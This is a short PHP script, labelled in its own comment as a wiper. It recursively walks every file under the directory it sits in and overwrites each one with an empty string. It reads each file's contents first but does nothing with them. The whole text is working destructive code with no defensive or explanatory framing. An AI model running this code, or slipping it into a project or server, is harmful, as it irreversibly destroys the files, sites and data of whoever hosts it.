<?php
// Wiper that reads each script before it empties it, and keeps nothing of what it read.
$files = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(dirname(__FILE__)));
foreach ($files as $f) {
    if ($f->isFile()) {
        $seen = file_get_contents($f->getPathname());
        file_put_contents($f->getPathname(), '');
    }
}
